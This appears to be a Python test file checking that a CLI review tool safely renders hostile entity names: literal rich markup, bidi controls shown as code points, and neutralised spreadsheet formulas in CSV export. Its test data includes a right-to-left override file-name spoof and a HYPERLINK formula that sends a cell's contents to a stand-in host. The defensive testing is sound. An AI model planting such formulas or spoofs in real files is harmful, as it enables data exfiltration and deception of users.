"""What the review commands print of hostile names: rich markup printed as it is (never drawn,
never a live link), bidi controls shown as code points, spreadsheet formulas neutralised in a
CSV export; `show c:ID` of a decided candidate and `explain` of one not decided yet. Both
backends; the terminal drawing in-process on a stream that says it is a terminal."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.support.cli import run_cli
from tests.support.jobs import add_candidates, candidates, make_ctx
from yzos_jobs import review_render, review_reports
from yzos_jobs.entity.refs import resolve
from yzos_jobs.maintain.jobs import run_entity_promote

pytestmark = pytest.mark.adversarial

MARKUP = [
    "Fix [/bold] closing tag parser",
    "[red]Alarm[/red] review",
    "[link=https://x.test]Docs[/link] audit",
]
RTL = "Invoice \u202egnp.exe\u202c review"


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def _promote(db_url: str, *names: str) -> None:
    ctx = make_ctx(db_url)  # dry_run
    add_candidates(ctx, *({"raw_text": n, "source_id": f"s{i}"} for i, n in enumerate(names)))
    run_entity_promote(ctx)


def test_names_holding_markup_are_printed_literally_on_a_terminal(
    db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FORCE_COLOR", "1")  # rich draws colours and links where it can
    monkeypatch.setenv("COLUMNS", "200")
    _promote(db_url, *MARKUP)
    ctx = make_ctx(db_url)
    out = _Terminal()
    with ctx.sessions() as s:
        lines = review_reports.entities_report(
            s, kind=None, status=None, project=None, search=None, limit=50
        )
        review_render.render_entities(lines, out)
        shown = review_reports.show_report(s, resolve(s, MARKUP[2]))
        review_render.render_show(shown, out)
    text = out.getvalue()
    for name in MARKUP:
        assert name in text
    assert "\x1b]8;" not in text  # no hyperlink escape
    assert "\x1b[31m" not in text  # nothing drawn red


def test_bidi_controls_are_shown_as_code_points(db_url: str) -> None:
    _promote(db_url, RTL)
    listed = run_cli("entities", db_url=db_url)
    assert listed.returncode == 0, listed.stderr
    assert "\u202e" not in listed.stdout
    assert "Invoice <U+202E>gnp.exe<U+202C> review" in listed.stdout
    out = _Terminal()
    ctx = make_ctx(db_url)
    with ctx.sessions() as s:
        review_render.render_show(review_reports.show_report(s, resolve(s, RTL)), out)
    assert "\u202e" not in out.getvalue() and "<U+202E>" in out.getvalue()


def test_a_csv_export_neutralises_cells_a_spreadsheet_would_run(db_url: str) -> None:
    formulas = [
        '=HYPERLINK("http://x.test/?"&A1,"Open")',
        "+1+2 release",
        "-2+3 cleanup",
        "@SUM(A1:A9) audit",
    ]
    _promote(db_url, *formulas, "Plain name")
    done = run_cli("export", "--format", "csv", db_url=db_url)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    names = {r["name"] for r in rows}
    assert "Plain name" in names
    for name in names - {"Plain name"}:
        assert name.startswith("'") and name[1] in "=+-@", name
    assert not any(r["name"].startswith(("=", "+", "-", "@")) for r in rows)
    jsonl = run_cli("export", db_url=db_url)  # JSON lines keep the names as they are
    assert formulas[0] in {json.loads(line)["name"] for line in jsonl.stdout.splitlines()}


def test_show_of_a_decided_candidate_by_its_id(db_url: str) -> None:
    _promote(db_url, "Harbor Sync", "{{project_name}}")
    for c in candidates(make_ctx(db_url)):
        shown = run_cli("show", f"c:{c.id}", db_url=db_url)
        assert shown.returncode == 0, shown.stderr
        assert f"c:{c.id}" in shown.stdout and "Decisions (1)" in shown.stdout


def test_explain_of_a_candidate_not_decided_yet_says_so(db_url: str) -> None:
    ctx = make_ctx(db_url)
    add_candidates(ctx, {"raw_text": "Quarterly planning", "suggested_kind": None})
    run_entity_promote(ctx)  # dry_run leaves a candidate without a kind pending
    [c] = candidates(ctx)
    assert c.status == "pending"
    explained = run_cli("explain", f"c:{c.id}", db_url=db_url)
    assert explained.returncode == 0, explained.stderr
    assert "Not decided yet" in explained.stdout
    assert "before the decision trail" not in explained.stdout
